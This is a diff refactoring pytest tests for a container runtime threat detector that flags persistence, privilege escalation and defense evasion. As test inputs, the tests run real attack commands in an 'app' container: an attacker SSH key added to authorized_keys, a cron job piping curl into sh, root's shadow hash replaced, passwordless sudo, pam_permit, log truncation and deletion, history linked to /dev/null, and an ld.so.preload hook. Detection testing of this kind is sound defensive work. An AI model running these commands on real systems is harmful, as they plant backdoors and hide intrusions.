@@ -15,7 +15,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from taskenv import SidecarHandle, TaskEnv
+from findings import container_of, context_of
+from taskenv import TaskEnv
 
 from collectors.events import ContainerRef, ProcessInfo, RuntimeEvent
 from collectors.process import ProcessCollector
@@ -32,31 +33,15 @@ KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0wVHhW attacker@c2"
 TYPES = {sf.PERSISTENCE, sf.PRIVILEGE_ESCALATION, sf.DEFENSE_EVASION}
 
 
-def start(task: TaskEnv, tmp_path: Path) -> SidecarHandle:
-    sidecar = task.start_sidecar(
-        ["run", "--findings-out", str(tmp_path / "f.jsonl"), "--events-out", str(tmp_path / "e.jsonl")]
-    )
-    sidecar.wait_for_event(lambda e: e["kind"] == "process.exec", timeout=20)
-    time.sleep(1.5)
-    return sidecar
-
-
 def ok(task: TaskEnv, container: str, script: str) -> None:
     rc, out = task.run(container, ["sh", "-c", script])
     assert rc == 0, (script, rc, out)
 
 
-def ctx_of(f: dict[str, Any]) -> dict[str, Any]:
-    return dict(f["service"]["runtimeDetails"].get("context") or {})
-
-
-def container_of(f: dict[str, Any]) -> str | None:
-    containers = f["resource"]["ecsClusterDetails"]["taskDetails"].get("containers") or []
-    return containers[0]["name"] if containers else None
-
-
 def about(t: str, path: str, op: str | None = None) -> Any:
-    return lambda f: f["type"] == t and ctx_of(f).get("filePath") == path and op in (None, ctx_of(f)["fileOperation"])
+    return lambda f: (
+        f["type"] == t and context_of(f).get("filePath") == path and op in (None, context_of(f)["fileOperation"])
+    )
 
 
 def valid(f: dict[str, Any]) -> dict[str, Any]:
@@ -65,7 +50,7 @@ def valid(f: dict[str, Any]) -> dict[str, Any]:
 
 
 def test_persistence_and_privilege_files_vs_reading_them(task_env: TaskEnv, tmp_path: Path) -> None:
-    sidecar = start(task_env, tmp_path)
+    sidecar = task_env.start_detecting(tmp_path)
     # benign: reading every one of them, ssh's known_hosts, in "worker"
     ok(task_env, "worker", "cat /etc/passwd /etc/shadow /etc/group >/dev/null; ls -la /etc/pam.d /root >/dev/null")
     ok(task_env, "worker", "mkdir -m 700 /root/.ssh && echo 'host ssh-ed25519 AAAA' > /root/.ssh/known_hosts")
@@ -74,41 +59,43 @@ def test_persistence_and_privilege_files_vs_reading_them(task_env: TaskEnv, tmp_
     ok(task_env, "app", script)
     f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/passwd"), timeout=20))
     assert f["severity"] == 5.0 and container_of(f) == "app"
-    c = ctx_of(f)
+    c = context_of(f)
     assert c["fileOperation"] == "write" and c["category"] == "passwd"
     assert c["modifyingProcess"]["commandLine"] == f"sh -c {script}"
     assert f["service"]["runtimeDetails"]["process"]["commandLine"] == f"sh -c {script}"
 
     ok(task_env, "app", f"mkdir -m 700 /root/.ssh && echo '{KEY}' > /root/.ssh/authorized_keys")
     f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/root/.ssh/authorized_keys"), timeout=15))
-    assert ctx_of(f)["category"] == "ssh_keys" and container_of(f) == "app"
+    assert context_of(f)["category"] == "ssh_keys" and container_of(f) == "app"
     ok(task_env, "app", "mkdir -p /etc/cron.d && echo '* * * * * root curl -s x|sh' > /etc/cron.d/job")
     f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/cron.d/job"), timeout=15))
-    assert ctx_of(f)["category"] == "cron"
+    assert context_of(f)["category"] == "cron"
     ok(task_env, "app", "sed -i 's/^root:[^:]*:/root:$6$evil:/' /etc/shadow")
     f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/shadow", "rename"), timeout=15))
-    assert ctx_of(f)["newPath"] == "/etc/shadow" and ctx_of(f)["category"] == "shadow"
+    assert context_of(f)["newPath"] == "/etc/shadow" and context_of(f)["category"] == "shadow"
 
     ok(task_env, "app", "mkdir -p /etc/sudoers.d && echo 'app ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/app")
     f = valid(sidecar.wait_for_finding(about(sf.PRIVILEGE_ESCALATION, "/etc/sudoers.d/app"), timeout=15))
-    assert f["severity"] == 5.0 and ctx_of(f)["category"] == "sudoers" and container_of(f) == "app"
+    assert f["severity"] == 5.0 and context_of(f)["category"] == "sudoers" and container_of(f) == "app"
     ok(task_env, "app", "mkdir -p /etc/pam.d && echo 'auth sufficient pam_permit.so' >> /etc/pam.d/common-auth")
     f = valid(sidecar.wait_for_finding(about(sf.PRIVILEGE_ESCALATION, "/etc/pam.d/common-auth"), timeout=15))
-    assert ctx_of(f)["category"] == "pam"
+    assert context_of(f)["category"] == "pam"
 
     time.sleep(2)
     findings = sidecar.findings()
     assert not [f for f in findings if f["type"] in TYPES and container_of(f) == "worker"], [
-        ctx_of(f) for f in findings if container_of(f) == "worker"
+        context_of(f) for f in findings if container_of(f) == "worker"
     ]
     # one finding per (file, operation), however many writes
-    keys = [(f["type"], ctx_of(f)["filePath"], ctx_of(f)["fileOperation"]) for f in findings if f["type"] in TYPES]
+    keys = [
+        (f["type"], context_of(f)["filePath"], context_of(f)["fileOperation"]) for f in findings if f["type"] in TYPES
+    ]
     assert len({f["id"] for f in findings if f["type"] in TYPES}) == len(set(keys))
     assert sidecar.stop() == 0
 
 
 def test_log_history_and_loader_tampering_vs_appends_and_rotation(task_env: TaskEnv, tmp_path: Path) -> None:
-    sidecar = start(task_env, tmp_path)
+    sidecar = task_env.start_detecting(tmp_path)
     # benign, in "worker": a shell's history appended to, a log created and appended to, an application rotating
     # its own log (app.log -> app.log.1, the oldest copy deleted), logrotate-style rotation by logrotate
     ok(task_env, "worker", "echo 'ls -la' >> /root/.bash_history")
@@ -121,30 +108,34 @@ def test_log_history_and_loader_tampering_vs_appends_and_rotation(task_env: Task
     ok(task_env, "app", "truncate -s 0 /var/log/auth.log; sleep 1")
     f = valid(sidecar.wait_for_finding(about(sf.DEFENSE_EVASION, "/var/log/auth.log", "write"), timeout=20))
     assert f["severity"] == 5.0 and container_of(f) == "app"
-    assert ctx_of(f)["truncated"] is True and ctx_of(f)["category"] == "log"
+    assert context_of(f)["truncated"] is True and context_of(f)["category"] == "log"
     ok(task_env, "app", "rm /var/log/syslog")
     f = valid(sidecar.wait_for_finding(about(sf.DEFENSE_EVASION, "/var/log/syslog", "delete"), timeout=15))
     ok(task_env, "app", "ln -sf /dev/null /root/.bash_history")
     f = valid(
         sidecar.wait_for_finding(
             lambda f: (
-                f["type"] == sf.DEFENSE_EVASION and ctx_of(f).get("shellHistoryFilePath") == "/root/.bash_history"
+                f["type"] == sf.DEFENSE_EVASION and context_of(f).get("shellHistoryFilePath") == "/root/.bash_history"
             ),
             timeout=15,
         )
     )
-    assert ctx_of(f)["fileOperation"] in ("delete", "link", "rename") and ctx_of(f)["category"] == "shell_history"
+    assert (
+        context_of(f)["fileOperation"] in ("delete", "link", "rename") and context_of(f)["category"] == "shell_history"
+    )
     ok(task_env, "app", "echo /dev/shm/libhook.so > /etc/ld.so.preload")
     f = valid(sidecar.wait_for_finding(about(sf.DEFENSE_EVASION, "/etc/ld.so.preload"), timeout=15))
-    assert ctx_of(f)["category"] == "ld_preload"
+    assert context_of(f)["category"] == "ld_preload"
 
     time.sleep(2)
     findings = sidecar.findings()
     assert not [f for f in findings if f["type"] in TYPES and container_of(f) == "worker"], [
-        ctx_of(f) for f in findings if container_of(f) == "worker"
+        context_of(f) for f in findings if container_of(f) == "worker"
     ]
     # appending to history in "app" (before the link) was not a finding either
-    history = [ctx_of(f)["fileOperation"] for f in findings if ctx_of(f).get("filePath") == "/root/.bash_history"]
+    history = [
+        context_of(f)["fileOperation"] for f in findings if context_of(f).get("filePath") == "/root/.bash_history"
+    ]
     assert "write" not in history and "create" not in history
     # the look-alikes reached the detector: the source did report the rotation
     events = sidecar.events()
@@ -206,7 +197,7 @@ def test_logrotate_and_app_rotation_are_not_tampering(process: ProcessInfo) -> N
     assert run([event(process, **shift, filePath="/var/log/a.log-20250101", oldPath="/var/log/a.log",
                       newPath="/var/log/a.log-20250101")]) == []  # fmt: skip
     moved = run([event(process, **shift, filePath="/var/log/a.log", oldPath="/var/log/a.log", newPath="/tmp/x")])
-    assert [ctx_of(f)["newPath"] for f in moved] == ["/tmp/x"]
+    assert [context_of(f)["newPath"] for f in moved] == ["/tmp/x"]
     # a log's chmod and an append are not tampering
     assert run([event(process, **log, fileOperation="attribute")]) == []
     assert run([event(process, **log, fileOperation="write", truncated=False)]) == []
@@ -217,12 +208,12 @@ def test_a_guessed_writer_is_not_named_as_the_modifying_process(process: Process
                       modifyingProcessGuessed=True)])  # fmt: skip
     assert f["type"] == sf.PERSISTENCE
     assert "process" not in f["service"]["runtimeDetails"]
-    c = ctx_of(f)
+    c = context_of(f)
     assert "modifyingProcess" not in c and c["modifyingProcessGuessed"] is True
     assert c["suspectedProcess"]["pid"] == process.pid
     assert container_of(f) == "app"
     (f,) = run([event(process, category="passwd", filePath="/etc/group", fileOperation="write")])
-    assert ctx_of(f)["modifyingProcess"]["pid"] == process.pid
+    assert context_of(f)["modifyingProcess"]["pid"] == process.pid
     assert f["service"]["runtimeDetails"]["process"]["pid"] == process.pid
 
 
